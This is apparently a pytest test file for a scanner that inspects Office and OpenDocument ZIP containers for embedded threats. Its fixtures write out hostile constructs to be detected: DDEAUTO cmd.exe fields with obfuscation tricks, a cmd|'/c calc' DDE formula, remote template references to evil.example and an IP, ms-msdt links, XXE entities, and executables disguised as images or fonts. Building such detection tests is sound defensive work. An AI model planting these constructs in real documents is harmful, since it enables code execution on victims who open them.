"""Documents that are stored as ZIP files, and what is in them besides text."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests import builders
from tests.unit.filetype import made
from tests.unit.unpack import documents
from tests.unit.unpack.documents import compound, dropped
from tests.unit.unpack.walked import walked

PROGRAM = builders.program()
ODT = "application/vnd.oasis.opendocument.text"
RELATIONS = '<Relationships><Relationship Id="a" Type="http://x/relationships/{}" Target="{}" {}/></Relationships>'
OUTSIDE = 'TargetMode="External"'
TABLE = made.office("vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")


def docx(members: dict[str, bytes]) -> bytes:
    """Make a document with more members."""
    return made.office(members=members)


def related(kind: str, target: str, mode: str = OUTSIDE) -> bytes:
    """Make a document with a reference."""
    return made.office(members={"word/_rels/settings.xml.rels": RELATIONS.format(kind, target, mode).encode()})


def text(inside: str) -> bytes:
    """Make a document with a text."""
    return docx({"word/document.xml": f"<w:document><w:body>{inside}</w:body></w:document>".encode()})


def run(instruction: str) -> str:
    """Make a run of a field."""
    return f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'


BEGIN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
END = "<w:r><w:fldChar w:fldCharType='end'/></w:r>"


@pytest.mark.parametrize(
    "content",
    [
        *(documents.sample(f"letter.{ending}") for ending in ("docx", "odt")),
        *(documents.sample(f"table.{ending}") for ending in ("xlsx", "ods")),
        docx({"word/media/image1.jpeg": builders.photo(), "docProps/thumbnail.jpeg": builders.photo()}),
        docx({"word/media/image1.emf": b"\1\0\0\0" + bytes(36) + b" EMF"}),
        docx({"word/media/image1.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><path d=""/></svg>'}),
        docx({"word/fonts/font1.odttf": b"\x8a\x10random", "xl/printerSettings/printerSettings1.bin": b"P\0D\0F\0"}),
        docx({"xl/tables/table1.xml": b'<table xmlns="http://x/spreadsheetml/2006/main"/>'}),
        docx({"_xmlsignatures/origin.sigs": b"", "_xmlsignatures/sig1.xml": b"<Signature/>"}),
        docx({"word/settings.xml": "\ufeff<w:settings/>".encode("utf-16-le")}),
        related("hyperlink", "https://example.org/"),
        related("image", "https://example.org/logo.png"),
        related("attachedTemplate", "file:///C:\\Users\\a\\AppData\\Templates\\Letter.dotx"),
        related("attachedTemplate", "file:///\\\\SERVER\\Templates\\Letter.dotx"),
        related("attachedTemplate", "Letter%20head.dotx"),
        related("oleObject", "file:///C:\\figures.xlsx"),
        related("attachedTemplate", "https://example.org/a.dotm", ""),
        text(f"{BEGIN}{run(' PAGE ')}{END} the word DDEAUTO"),
        text(BEGIN + run(" HYPERLINK &quot;https://example.org/dde&quot; ") + END),
        docx({"xl/worksheets/sheet1.xml": b"<row><c><f>IF(A1|B1,'Sheet 1'!A1)</f></c></row>"}),
        docx({"ppt/slides/slide1.xml": b'<a:hlinkClick action="ppaction://hlinksldjump"/>'}),
        made.open_document(ODT, {"layout-cache": b"\0\1", "Configurations2/accelerator/current.xml": b""}),
        made.open_document(ODT, {"Object 1/content.xml": b"<x/>", "ObjectReplacements/Object 1": b"VCLMTF\1\0"}),
        made.open_document(ODT, {"styles.xml": b'<draw:object xlink:href="./Object 1" xlink:type="simple"/>'}),
        made.open_document(ODT, {"META-INF/manifest.xml": b'<!DOCTYPE manifest PUBLIC "-//x" "M.dtd"><manifest/>'}),
    ],
)
def test_honest_document_is_clean_and_whole(content: bytes) -> None:
    """Pictures, fonts, signatures, links and templates on the own disk are parts of it."""
    found = walked(content)

    assert (found.places, found.kinds) == (["2"], [])


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (related("attachedTemplate", "https://example.org/a.dotm"), "external_template"),
        (related("attachedTemplate", "file:///\\\\198.51.100.7\\a\\b.dotm"), "external_template"),
        (related("attachedTemplate", "\\\\evil.example\\a.dotm"), "external_template"),
        (related("attachedTemplate", "&#104;ttps://example.org/a"), "external_template"),
        (related("oleObject", "mhtml:https://example.org/a!x-usc:b"), "external_template"),
        (related("oleObject", "https://example.org/index.html!"), "external_template"),
        (related("frame", "https://example.org/"), "external_template"),
        (related("subDocument", "http://example.org/"), "external_template"),
        (related("attachedTemplate", "http://a.example/>", " TargetMode='&#69;xternal'"), "external_template"),
        (related("hyperlink", "ms-msdt:/id PCWDiagnostic"), "active_content"),
        (related("control", "a"), "active_content"),
        (text(f"{BEGIN}{run(' DDEAUTO cmd.exe ')}{END}"), "dde_field"),
        (text(f"{BEGIN}{run(' DD')}<w:proofErr/>{run('EAU')}{run('TO x ')}{END}"), "dde_field"),
        (text(f"{BEGIN}{run(' &#68;D&#x45; x')}{END}"), "dde_field"),
        (text('<w:fldSimple w:instr=" DDE cmd x"><w:r/></w:fldSimple>'), "dde_field"),
        (text(f"{BEGIN}{BEGIN}{run(' QUOTE 68 68 69 65 85 84 79 ')}{END}{END}"), "dde_field"),
        (text(f"{BEGIN}{run(' LINK Word.Document https://example.org/a ')}{END}"), "external_template"),
        (
            docx({"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink ddeService='cmd'/></externalLink>"}),
            "dde_field",
        ),
        (docx({"xl/worksheets/sheet1.xml": b"<c><f>cmd|'/c calc'!A0</f></c>"}), "dde_field"),
        (docx({"ppt/slides/slide1.xml": b'<a:hlinkClick action="ppaction://program"/>'}), "active_content"),
        (docx({"word/activeX/activeX1.xml": b"<ax:ocx/>"}), "active_content"),
        (docx({"customUI/customUI14.xml": b"<customUI onLoad='Run'/>"}), "active_content"),
        (docx({"word/settings.xml": b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///x'>]><x/>"}), "container_unreadable"),
        (docx({"word/settings.xml": b"<?xml version='1.0' encoding='UTF-7'?><x/>"}), "container_unreadable"),
        (docx({"word/x.xml": f"\ufeff<w:p>{BEGIN}{run('DDE x')}</w:p>".encode("utf-16-be")}), "dde_field"),
        (
            made.open_document(ODT, {"a.xml": b'<script:event-listener xlink:href="vnd.sun.star.script:a.py$b"/>'}),
            "macro_code",
        ),
        (
            made.open_document(ODT, {"a.xml": b'<draw:object xlink:href="https://example.org/a.ods"/>'}),
            "external_template",
        ),
        (made.open_document(ODT, {"a.xml": b'<office:dde-source office:dde-application="cmd"/>'}), "dde_field"),
        (made.open_document(ODT, {"META-INF/manifest.xml": b"<manifest:encryption-data/>"}), "container_encrypted"),
    ],
)
def test_what_loads_or_runs_is_noticed(content: bytes, kind: str) -> None:
    """In every part, whatever its encoding and however it is split."""
    assert set(walked(content).kinds) == {kind}


@pytest.mark.parametrize(
    ("name", "content", "media_type"),
    [
        ("word/embeddings/a.exe", PROGRAM, "application/x-dosexec"),
        ("word/media/image1.png", PROGRAM, "application/x-dosexec"),
        ("word/theme/theme1.xml", PROGRAM, "application/x-dosexec"),
        ("word/settings.xml", b"<html><script>x</script></html>", "text/html"),
        ("word/media/a.svg", b"<svg><script>x</script></svg>", "image/svg+xml"),
        ("word/fonts/font1.odttf", PROGRAM, "application/x-dosexec"),
        ("word/printerSettings1.bin", builders.zip_of({"a": b"x"}), "application/zip"),
        ("word/afchunk.mht", b"<html><p>Hello</p></html>", "text/html"),
        ("readme.txt", b"Hello.\n", "text/plain"),
        ("ppt/embeddings/Table.xlsx", TABLE, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ],
)
def test_other_members_are_judged_as_files(name: str, content: bytes, media_type: str) -> None:
    """Whatever is no usual part of a document."""
    found = walked(made.office(members={name: content}))

    assert [(one.names, one.detected) for one in found.artifacts[1:2]] == [((name,), media_type)]


def test_file_in_an_embedded_object_is_judged() -> None:
    """Two containers deep."""
    holder = compound({"\1Ole10Native": dropped("a.exe", PROGRAM)})
    found = walked(made.office(members={"word/embeddings/oleObject1.bin": holder}))

    assert found.artifacts[2].names == ("a.exe",)


def test_macros_under_another_name_are_noticed() -> None:
    """By their content."""
    assert walked(made.office(members={"word/a.dat": compound({"VBA/dir": b"x"})})).kinds == ["macro_code"]


def test_large_part_is_searched_to_its_end() -> None:
    """In pieces."""
    assert walked(text("<w:t>word </w:t>" * 200_000 + BEGIN + run("DDE x"))).kinds == ["dde_field"]


@given(st.data())
def test_damaged_document_is_survived(data: st.DataObject) -> None:
    """Whatever is changed in a real file, the walk ends with findings."""
    content = bytearray(documents.sample(data.draw(st.sampled_from(["letter.docx", "letter.odt", "table.xlsx"]))))
    for at in data.draw(st.lists(st.integers(0, len(content) - 1), max_size=6)):
        content[at] = data.draw(st.integers(0, 255))

    assert walked(bytes(content)).places[0] == "2"
